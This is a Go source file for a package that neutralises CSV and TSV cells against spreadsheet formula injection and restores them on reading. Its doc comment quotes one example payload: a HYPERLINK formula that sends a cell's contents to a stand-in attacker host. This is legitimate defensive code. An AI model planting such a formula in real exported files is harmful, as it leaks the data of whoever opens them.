// Package sheet keeps the CSV and TSV files tilmash writes inert in a
// spreadsheet, and reads them back.
//
// # Why
//
// Excel, LibreOffice and Google Sheets take a cell that starts with =, +,
// - or @ for a formula, and a formula can fetch a URL or run a command
// (CSV injection, also called formula injection). The texts tilmash
// exports come from anyone: a translation returned by a contractor, a
// glossary note pasted from the web. A sentence such as
// =HYPERLINK("http://evil.example/?"&A1, "source") must stay text.
//
// As OWASP recommends, a cell that starts with one of = + - @ or a tab or a
// carriage return gets a single quote in front, which spreadsheets show as
// text and do not evaluate; in CSV such a cell is also quoted. A cell that
// already starts with quotes followed by one of those characters gets one
// quote more, so that [Restore] gives back exactly the text that was
// written: tilmash's own readers (glossary import of CSV and TSV, check of
// a TSV) call it, and a round trip through tilmash loses nothing.
package sheet

import (
	"bufio"
	"io"
	"strings"
	"unicode"
	"unicode/utf8"
)

// risky reports whether a spreadsheet may evaluate a cell starting with
// s's first character.
func risky(s string) bool {
	return s != "" && strings.IndexByte("=+-@\t\r", s[0]) >= 0
}

// needsQuote reports whether Inert prefixes s: s is risky after any
// number of leading single quotes, including none.
func needsQuote(s string) bool {
	return risky(strings.TrimLeft(s, "'"))
}

// Inert returns s as a spreadsheet takes it for text: with a single quote
// in front when it starts with = + - @, a tab or a carriage return (after
// any single quotes already there). Other cells are returned unchanged.
func Inert(s string) string {
	if needsQuote(s) {
		return "'" + s
	}
	return s
}

// Restore undoes Inert: Restore(Inert(s)) == s for every s. A cell Inert
// did not change is returned unchanged, so Restore may be applied to any
// cell of a file tilmash wrote.
func Restore(s string) string {
	if strings.HasPrefix(s, "'") && needsQuote(s[1:]) {
		return s[1:]
	}
	return s
}

// Writer writes rows of cells, each made inert. With Quote the cells are
// quoted as encoding/csv quotes them (RFC 4180: a cell holding the
// separator, a double quote or a line break, or starting with a space, is
// put in double quotes) and so is every cell Inert changed (QuoteInert,
// for CSV); without Quote, cells are written as they are, as OmegaT reads
// its tab-separated glossaries (the caller keeps tabs and line breaks out
// of them).
type Writer struct {
	Comma      rune
	Quote      bool
	QuoteInert bool
	w          *bufio.Writer
}

// NewCSV returns a Writer of comma-separated values, quoted.
func NewCSV(w io.Writer) *Writer {
	return &Writer{Comma: ',', Quote: true, QuoteInert: true, w: bufio.NewWriter(w)}
}

// NewTSV returns a Writer of tab-separated values: quoted as encoding/csv
// does when quote, else cells as they are.
func NewTSV(w io.Writer, quote bool) *Writer {
	return &Writer{Comma: '\t', Quote: quote, w: bufio.NewWriter(w)}
}

// Write writes one row and a line feed.
func (w *Writer) Write(row []string) error {
	for i, cell := range row {
		if i > 0 {
			w.w.WriteRune(w.Comma)
		}
		inert := Inert(cell)
		if w.Quote && (w.QuoteInert && inert != cell || w.needsQuotes(inert)) {
			w.w.WriteByte('"')
			w.w.WriteString(strings.ReplaceAll(inert, `"`, `""`))
			w.w.WriteByte('"')
			continue
		}
		w.w.WriteString(inert)
	}
	_, err := w.w.WriteString("\n")
	return err
}

// WriteAll writes rows and flushes.
func (w *Writer) WriteAll(rows [][]string) error {
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			return err
		}
	}
	return w.Flush()
}

// Flush writes what is buffered.
func (w *Writer) Flush() error { return w.w.Flush() }

// needsQuotes is encoding/csv's rule, so that cells Inert leaves alone
// come out byte for byte as they did before.
func (w *Writer) needsQuotes(field string) bool {
	if field == "" {
		return false
	}
	if field == `\.` || strings.ContainsRune(field, w.Comma) || strings.ContainsAny(field, "\"\r\n") {
		return true
	}
	r, _ := utf8.DecodeRuneInString(field)
	return unicode.IsSpace(r)
}
